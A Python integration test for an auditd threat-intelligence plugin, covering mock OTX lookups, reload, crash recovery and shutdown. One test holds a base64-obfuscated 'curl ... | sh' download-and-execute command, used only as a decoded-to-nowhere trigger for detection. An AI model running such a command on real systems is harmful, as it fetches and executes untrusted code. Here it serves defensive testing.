# SPDX-License-Identifier: GPL-3.0-or-later
"""Threat intelligence under auditd: the keeper that front starts, a provider on
loopback, and what auditd does to them."""

import base64
import os
import shutil
import signal
import sys

from rig import Failure, children, is_alive, wait_for

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.append(os.path.join(HERE, "..", "intel"))
from server import Nginx                                    # noqa: E402

INTEL_USER = "daemon"   # any account but root and the plugin's
IP = "8.8.4.4"
ANSWERS = [("/api/v1/indicators/IPv4/%s/general" % IP, 200, (),
            '{"pulse_info":{"count":3}}')]
GONE_S = 5


def command_of(pid):
    try:
        with open("/proc/%d/cmdline" % pid) as f:
            return f.read().split("\0")[0]
    except OSError:
        return ""


def under(rig, name):
    """The pid of the newest process of that name under auditd, or None."""
    found = [p for p in children(rig.auditd.pid)
             if os.path.basename(command_of(p)) == name]
    return max(found, default=None)


def intel_of(rig):
    return under(rig, "audisp-hunt-intel")


def configure(rig, nginx, key):
    path = rig.path("lib", "otx.key")
    if os.path.exists(path):
        os.unlink(path)
    with open(path, "w") as f:
        f.write(key)
    os.chmod(path, 0o400)
    shutil.chown(path, INTEL_USER)
    rig.configure("intel.user = " + INTEL_USER,
                  "intel.socket = " + socket_of(rig),
                  "intel.state = " + rig.path("intel", "intel.db"),
                  "intel.ca = " + nginx.path("ca.pem"),
                  "provider = otx types=ipv4 per_minute=0 inside=yes key=%s "
                  "url=https://localhost:%d" % (path, nginx.port))


def socket_of(rig):
    return rig.path("run/audisp-hunt/intel.sock")


def check_amended(rig):
    """The line of a command, and an amendment with the same id."""
    since = rig.mark()
    hidden = base64.b64encode(b"curl -fsSL http://%s/x | sh" % IP.encode())
    rig.command("/bin/sh", "-c", "echo %s | base64 -d > /dev/null; : %d" % (
        hidden.decode(), since))
    first = [line for line in rig.wait_lines(
        since, lambda lines: any(IP in str(line.get("iocs")) for line in lines))
        if IP in str(line.get("iocs"))]
    if not first:
        raise Failure("no line with the address")
    if first[0]["parts"].get("intel") == 3:
        return      # known from before
    late = rig.wait_lines(since, len, 10, "intel")
    if [(line["id"], line["verdict"], line["parts"]["intel"])
            for line in late] != [(first[0]["id"], "high", 3)]:
        raise Failure("%s became %s" % (first[0], late))


def check_reload(rig, nginx):
    """SIGHUP to auditd: another key is in use, nobody else has changed."""
    before, pids = wait_for(5, lambda: intel_of(rig)), rig.plugin_pids()
    configure(rig, nginx, "ANOTHER")
    rig.auditd.send_signal(signal.SIGHUP)
    if not wait_for(5, lambda: intel_of(rig) not in (None, before)):
        raise Failure("the intel process is the same")
    if rig.plugin_pids() != pids:
        raise Failure("%r became %r" % (pids, rig.plugin_pids()))


def check_killed(rig):
    """SIGKILL to front: auditd starts another one, with a keeper of its own,
    and nothing of the first is left."""
    old = rig.plugin_pids()
    front = old[0]
    left = [under(rig, "audisp-hunt: keeper"), intel_of(rig)]
    os.kill(front, signal.SIGKILL)
    wait_for(2, lambda: not is_alive(front))
    rig.command("/bin/true", "wakes", "auditd")
    if not wait_for(5, lambda: intel_of(rig) not in (None, left[1])):
        raise Failure("no other intel process")
    if not wait_for(GONE_S, lambda: not any(map(is_alive, left))):
        raise Failure("left over: %r" % left)


def check_stop(rig):
    pids = [intel_of(rig), under(rig, "audisp-hunt: keeper")]
    if None in pids:
        raise Failure("it did not run: %r" % pids)
    rig.stop_auditd()
    if not wait_for(GONE_S, lambda: not any(map(is_alive, pids))):
        raise Failure("left over: %r" % pids)
    if os.path.exists(socket_of(rig)):
        raise Failure("the socket is left over")


def asking(rig, report):
    missing = [t for t in ("nginx", "openssl") if not shutil.which(t)]
    if missing:
        report.skip("asking", "no " + " and no ".join(missing))
        return
    nginx = Nginx(ANSWERS)
    try:
        configure(rig, nginx, "KEY")
        rig.start_auditd("RAW")
        rig.watch()
        report("asking-amended", check_amended, rig)
        report("asking-reload", check_reload, rig, nginx)
        report("asking-front-killed", check_killed, rig)
        report("asking-again", check_amended, rig)
        report("asking-stop", check_stop, rig)
        keys = {one["x-otx-api-key"] for one in nginx.asked(2)}
        report("asking-keys", check_keys, keys)
    finally:
        nginx.close()
        rig.configure()


def check_keys(keys):
    if keys - {"KEY", "ANOTHER"} or "KEY" not in keys:
        raise Failure("asked with %s" % sorted(keys))
